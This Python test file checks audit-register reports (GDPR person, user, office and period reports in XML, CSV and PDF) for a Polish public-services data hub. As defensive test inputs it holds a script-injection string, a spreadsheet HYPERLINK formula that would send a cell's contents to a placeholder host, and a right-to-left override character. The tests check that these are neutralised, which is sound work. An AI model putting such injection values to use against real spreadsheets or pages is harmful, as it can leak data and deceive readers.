"""Reports from the register: per person (GDPR art. 15), user, office and period; XML valid against
xsd/raport-1.xsd, CSV, PDF; each report is itself recorded."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import etree

from audit.errors import ReportError
from audit.labels import category_title
from audit.records import EventKind, Outcome
from audit.reports import (
    REPORT_NS,
    ReportFormat,
    ReportKind,
    ReportRequest,
    Requester,
    build_report,
    render_html,
)
from audit.store import AuditStore
from audit.verify import verify
from tests.audit.conftest import START, disclosure, needs_pdf, synthetic_pesel

ROOT = Path(__file__).resolve().parents[2]
R = "{" + REPORT_NS + "}"
AUDITOR = Requester("audytor", "PUP", "TEST")

CONFIG = """
[hub]
name = "Powiat testowy"
database = "sqlite:///replica.sqlite"
audit_database = "sqlite:///audit.sqlite"

[[offices]]
code = "PUP"
name = "PUP testowy"
kind = "PUP"

[[offices]]
code = "OPS"
name = "OPS testowy"
kind = "OPS"

[[data_sets]]
code = "PUP"
controller = "PUP"
replica = "sqlite:///pup.sqlite"

[[groups]]
code = "G"
office = "OPS"
name = "Grupa"

[[legal_bases]]
code = "L"
citation = "Przepis testowy"
data_sets = ["PUP"]

[[rules]]
office = "OPS"
group = "G"
data_set = "PUP"
categories = ["DANE_OSOBOWE", "WIZYTY", "OKRESY_REJESTRACJI"]
"""


def schema() -> etree.XMLSchema:
    return etree.XMLSchema(etree.parse(str(ROOT / "xsd" / "raport-1.xsd")))


def parse_valid(data: bytes) -> etree._Element:
    document = etree.fromstring(data)
    validator = schema()
    assert validator.validate(document), validator.error_log
    return document


def csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, so that a spreadsheet reads Polish letters
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def hub_core(tmp_path: Path) -> Iterator[object]:
    """A real query engine over a tiny PUP replica of two synthetic people; its register is the audit DB."""
    from demo.data import Population, write_people_feed
    from hub import settings as config_module
    from hub.core import HubCore
    from hub.soap.contracts import feed_schema
    from replica.writer import Loader

    powiat = Population(7)
    people = [powiat.person(30, 40), powiat.person(30, 40)]
    feed = tmp_path / "pup.xml"
    write_people_feed(feed, "PUP", powiat, people)
    (tmp_path / "platforma.toml").write_text(CONFIG, encoding="utf-8")
    config = config_module.load(tmp_path / "platforma.toml")
    loader = Loader(config.data_set("PUP").replica, "PUP", feed_schema())  # type: ignore[union-attr,arg-type]
    loader.load(feed)
    loader.dispose()
    core = HubCore.open(config)
    core.people = people  # type: ignore[attr-defined]
    yield core
    core.close()


def test_person_report_lists_exactly_the_disclosures_made(hub_core: object) -> None:
    from contract.errors import NotAllowed
    from contract.identifiers import Identifier
    from hub.domain.policy import Caller
    from hub.domain.query import QueryRequest

    core = hub_core
    first, second = core.people  # type: ignore[attr-defined]
    caller = Caller("ops.pracownik", "OPS", "G")
    other = Caller("ops.kierownik", "OPS", "G")

    def ask(who: Caller, pesel: str, categories: list[str], purpose: str) -> str:
        request = QueryRequest(Identifier.build(pesel=pesel), "L", purpose, {"PUP": categories})
        return core.query.ask(who, request).request_id  # type: ignore[attr-defined,no-any-return]

    made = [
        ask(caller, first.pesel, ["DANE_OSOBOWE", "OKRESY_REJESTRACJI"], "Zasiłek okresowy"),
        ask(other, first.pesel, ["WIZYTY"], "Praca socjalna"),
    ]
    ask(caller, second.pesel, ["DANE_OSOBOWE"], "Inna osoba")
    with pytest.raises(NotAllowed):
        ask(caller, first.pesel, ["HISTORIA_ZATRUDNIENIA"], "Poza zakresem")
    store: AuditStore = core.register.store  # type: ignore[attr-defined]

    document = parse_valid(
        build_report(store, ReportRequest(ReportKind.PERSON, pesel=first.pesel), ReportFormat.XML, requested_by=AUDITOR)
    )
    entries = document.findall(f"{R}Wpisy/{R}Wpis")
    assert [e.findtext(f"{R}IdZapytania") for e in entries] == made
    assert document.findtext(f"{R}Naglowek/{R}LiczbaWpisow") == "2"
    assert [e.findtext(f"{R}Uzytkownik") for e in entries] == ["ops.pracownik", "ops.kierownik"]
    assert {e.findtext(f"{R}Pesel") for e in entries} == {first.pesel}
    assert [e.findtext(f"{R}Cel") for e in entries] == ["Zasiłek okresowy", "Praca socjalna"]
    assert [[k.get("Kod") for k in e.iter(f"{R}Kategoria")] for e in entries] == [
        ["DANE_OSOBOWE", "OKRESY_REJESTRACJI"],
        ["WIZYTY"],
    ]
    assert entries[1].findtext(f"{R}Kategorie/{R}Kategoria") == "Historia kontaktów i zaplanowane wizyty"
    assert all(e.findtext(f"{R}Wynik") == "UJAWNIENIE" and e.findtext(f"{R}PodstawaPrawna") == "L" for e in entries)
    assert all(e.findtext(f"{R}Administrator") == "PUP testowy" for e in entries)

    with_refusals = parse_valid(
        build_report(
            store,
            ReportRequest(ReportKind.PERSON, pesel=first.pesel, include_refusals=True),
            ReportFormat.XML,
            requested_by=AUDITOR,
        )
    )
    outcomes = [e.findtext(f"{R}Wynik") for e in with_refusals.iter(f"{R}Wpis")]
    assert outcomes == ["UJAWNIENIE", "UJAWNIENIE", "ODMOWA"]

    rows = csv_rows(
        build_report(
            store, ReportRequest(ReportKind.PERSON, pesel=second.pesel), ReportFormat.CSV, requested_by=AUDITOR
        )
    )
    assert [(r["PESEL"], r["Cel"], r["Kategorie"]) for r in rows] == [(second.pesel, "Inna osoba", "DANE_OSOBOWE")]

    reports = list(store.events(kind=EventKind.REPORT))
    assert len(reports) == 3 and all(e.user == "audytor" and e.success for e in reports)
    assert f"pesel={first.pesel}" in reports[0].details and "wpisow=2" in reports[0].details
    assert verify(store).ok  # the disclosures and the report events are one intact chain


@pytest.fixture
def varied(store: AuditStore) -> AuditStore:
    """Twelve records over three days, two users in two offices, one refusal."""
    for index in range(12):
        user, office = ("pup.urzednik", "PUP") if index % 3 == 0 else ("ops.pracownik", "OPS")
        outcome = Outcome.REFUSED if index == 4 else Outcome.DISCLOSED
        store.append(
            [disclosure(index, user=user, office=office, outcome=outcome, time=START + dt.timedelta(hours=6 * index))]
        )
    return store


@pytest.mark.parametrize(
    ("request_", "expected"),
    [
        (ReportRequest(ReportKind.USER, user="pup.urzednik"), [0, 3, 6, 9]),
        (ReportRequest(ReportKind.OFFICE, office="OPS"), [1, 2, 4, 5, 7, 8, 10, 11]),
        (ReportRequest(ReportKind.OFFICE, office="OPS", include_refusals=False), [1, 2, 5, 7, 8, 10, 11]),
        (
            ReportRequest(ReportKind.PERIOD, since=START + dt.timedelta(days=1), until=START + dt.timedelta(days=2)),
            [4, 5, 6, 7],
        ),
        (ReportRequest(ReportKind.USER, user="ops.pracownik", until=START + dt.timedelta(hours=12)), [1]),
        (ReportRequest(ReportKind.PERSON, pesel=synthetic_pesel(7)), [7]),
    ],
)
def test_reports_by_user_office_period(varied: AuditStore, request_: ReportRequest, expected: list[int]) -> None:
    document = parse_valid(build_report(varied, request_, ReportFormat.XML, requested_by=AUDITOR))
    found = [int(str(e.findtext(f"{R}IdZapytania"))[4:]) for e in document.iter(f"{R}Wpis")]
    assert found == expected
    rows = csv_rows(build_report(varied, request_, ReportFormat.CSV, requested_by=AUDITOR))
    assert [int(r["IdZapytania"][4:]) for r in rows] == expected
    assert document.findtext(f"{R}Naglowek/{R}Rodzaj") == request_.kind.value


@pytest.mark.parametrize(
    "request_",
    [
        ReportRequest(ReportKind.PERSON),
        ReportRequest(ReportKind.PERSON, pesel="123"),
        ReportRequest(ReportKind.USER),
        ReportRequest(ReportKind.OFFICE),
        ReportRequest(ReportKind.PERIOD),
        ReportRequest(ReportKind.PERIOD, since=START, until=START),
    ],
)
def test_report_criteria_are_checked(store: AuditStore, request_: ReportRequest) -> None:
    with pytest.raises(ReportError) as refused:
        build_report(store, request_, ReportFormat.XML, requested_by=AUDITOR)
    assert refused.value.message
    assert list(store.events(kind=EventKind.REPORT)) == []  # nothing made, nothing recorded


def test_pdf_for_a_person(varied: AuditStore) -> None:
    needs_pdf()
    request = ReportRequest(ReportKind.PERSON, pesel=synthetic_pesel(7))
    pdf = build_report(varied, request, ReportFormat.PDF, requested_by=AUDITOR)
    assert pdf.startswith(b"%PDF-") and pdf.rstrip().endswith(b"%%EOF")
    assert [e.details for e in varied.events(kind=EventKind.REPORT)][-1].endswith("format=pdf; wpisow=1")


def test_pdf_html_is_polish_and_escaped() -> None:
    html = render_html(
        {
            "title": "Informacja o udostępnieniu danych osobowych",
            "kind": "OSOBA",
            "issuer": "Powiat <testowy>",
            "made": "25.11.2026 10:00",
            "requester": "audytor",
            "pesel": "80010100000",
            "user": "",
            "office": "",
            "since": "",
            "until": "",
            "with_refusals": False,
            "count": 1,
            "rows": [
                {
                    "nr": 7,
                    "time": "02.11.2026 09:07",
                    "office": "OPS",
                    "user": "ops.pracownik",
                    "data_set": "PUP",
                    "controller": "PUP w Testowie",
                    "categories": ["Dane osobowe beneficjenta"],
                    "legal_basis": "L",
                    "purpose": "<script>alert(1)</script>",
                    "outcome": "UJAWNIENIE",
                    "refused": False,
                    "pesel": "",
                }
            ],
        }
    )
    assert "art. 15 ust. 1 lit. c RODO" in html and "80010100000" in html
    assert "&lt;script&gt;" in html and "<script>" not in html
    assert "Powiat &lt;testowy&gt;" in html


def test_category_titles_come_from_the_catalog_including_kinds_registered_later() -> None:
    from contract import catalog

    assert category_title("SR", "DANE_DZIECI") == "Dane dzieci, na które przyznano świadczenie"
    kind = catalog.DataSetKind(
        code="PFRON_TYTULY",
        title="Testowy rodzaj zbioru",
        data_element="DanePFRONTytuly",
        categories=(catalog.Category("ORZECZENIA_TEST", "OrzeczeniaTest", "Orzeczenia (test)", "X 1"),),
    )
    catalog.register(kind)
    assert category_title("PFRON_TYTULY", "ORZECZENIA_TEST") == "Orzeczenia (test)"
    assert category_title("PFRON_TYTULY", "NIE_MA") == "NIE_MA"


def test_a_refusal_whose_reason_is_longer_than_the_schemas_text_still_makes_a_valid_report(store: AuditStore) -> None:
    """Contracts pass: a refused query naming 64 unknown categories was recorded with a 4,514-character reason;
    every XML report listing it was then invalid against xsd/raport-1.xsd (Tekst: at most 4,000)."""
    import dataclasses

    reason = "NIEZNANA_KATEGORIA: " + ", ".join(f"KATEGORIA:PUP:K{i:02d}_" + "X" * 60 for i in range(64))
    assert len(reason) > 4000
    refused = dataclasses.replace(disclosure(3, outcome=Outcome.REFUSED), reason=reason)
    store.append([refused])
    request = ReportRequest(ReportKind.USER, user="ops.pracownik")
    document = parse_valid(build_report(store, request, ReportFormat.XML, requested_by=AUDITOR))
    shown = document.findtext(f"{R}Wpisy/{R}Wpis/{R}Powod")
    assert shown is not None and len(shown) == 4000 and reason.startswith(shown[:-1]) and shown.endswith("…")


def test_a_time_without_a_zone_is_polish_time_over_soap_as_on_the_command_line() -> None:
    """Feeds and reports pass: `Od=2026-12-05T07:27:00` on /soap/audyt was read as UTC (08:27 Polish time), while
    `audit report --since 2026-12-05T07:27` read it as Polish time: the same words, two periods."""
    from zoneinfo import ZoneInfo

    from audit.cli import parse_moment
    from hub.domain.reports import ReportOrder, Reports

    reports = Reports(None, None, "Hub")  # type: ignore[arg-type]  # an order is checked without the register
    order = ReportOrder("OKRES", "xml", since=dt.datetime(2026, 12, 5, 7, 27), until=dt.datetime(2027, 7, 1, 12, 0))
    request, _fmt = reports.request(order)
    assert request.since == parse_moment("2026-12-05T07:27", end=False)
    assert request.since == dt.datetime(2026, 12, 5, 6, 27, tzinfo=dt.UTC)
    assert request.until == dt.datetime(2027, 7, 1, 12, 0, tzinfo=ZoneInfo("Europe/Warsaw"))  # summer time


def test_a_csv_cell_a_spreadsheet_would_run_or_show_reversed_is_shown_as_text(store: AuditStore) -> None:
    """Findings (reports and sweep passes): a purpose `=HYPERLINK(...)` typed by a clerk was a live formula in the
    auditor's spreadsheet, and a right-to-left override in a case number (kept in `powod`) reversed what the auditor
    read. A cell starting like a formula gets the spreadsheet's text mark `'`; controls show as code points."""
    from dataclasses import replace

    formula = '=HYPERLINK("http://example.invalid/?x="&A1;"Kliknij")'
    record = replace(disclosure(1), purpose=formula, legal_basis="+48", reason="ZnakSprawy=OPS.\u202e6202.21")
    store.append([record])
    period = ReportRequest(ReportKind.PERIOD, since=START - dt.timedelta(days=1))
    text = build_report(store, period, ReportFormat.CSV, requested_by=AUDITOR)
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig")), delimiter=";"))
    cells = rows[-1]
    assert "'" + formula in cells and "'+48" in cells
    assert "ZnakSprawy=OPS.<U+202E>6202.21" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_long_word_in_a_pdf_report_wraps_within_the_page() -> None:
    """Finding (reports pass): a 999-character purpose without a space (the WSDL allows 1,000) ran on one line to
    x ≈ 7,700 px of a 1,123 px page: most of it was not on the paper."""
    needs_pdf()
    import weasyprint

    row = {
        "nr": 1, "time": "01.01.2026 10:00", "office": "OPS", "user": "ops.pracownik", "data_set": "PUP",
        "controller": "PUP", "categories": ["Dane osobowe"], "legal_basis": "UPS-2004", "purpose": "x" * 999,
        "outcome": "UJAWNIENIE", "refused": False, "pesel": "90051712344",
    }  # fmt: skip
    values = {
        "title": "Raport", "kind": "OKRES", "issuer": "Powiat", "made": "", "requester": "audytor", "pesel": "",
        "user": "", "office": "", "since": "", "until": "", "with_refusals": False, "rows": [row], "count": 1,
    }  # fmt: skip
    page = weasyprint.HTML(string=render_html(values)).render().pages[0]

    def boxes(box: object) -> Iterator[object]:
        yield box
        for child in getattr(box, "children", None) or []:
            yield from boxes(child)

    laid_out = [b for b in boxes(page._page_box) if getattr(b, "width", None) is not None]  # type: ignore[attr-defined]
    right = max(b.position_x + b.width for b in laid_out)  # type: ignore[attr-defined]
    assert right <= page.width


@pytest.mark.parametrize("fmt", [ReportFormat.CSV, ReportFormat.XML])
def test_a_report_is_recorded_before_its_first_byte_leaves(store: AuditStore, fmt: ReportFormat) -> None:
    """Finding (reports pass): the RAPORT event was appended after the report was written; streamed to a pipe, the
    report was read in full while its recording failed (the register locked), and no event said it was made."""
    from audit.reports import write_report

    store.append([disclosure(1), disclosure(2)])
    seen: list[int] = []

    class Watched(io.BytesIO):
        def write(self, data: object) -> int:
            seen.append(len(list(store.events(kind=EventKind.REPORT))))
            return super().write(data)  # type: ignore[arg-type]

    period = ReportRequest(ReportKind.PERIOD, since=START - dt.timedelta(days=1))
    assert write_report(store, period, fmt, Watched(), requested_by=AUDITOR) == 2
    assert seen and set(seen) == {1}
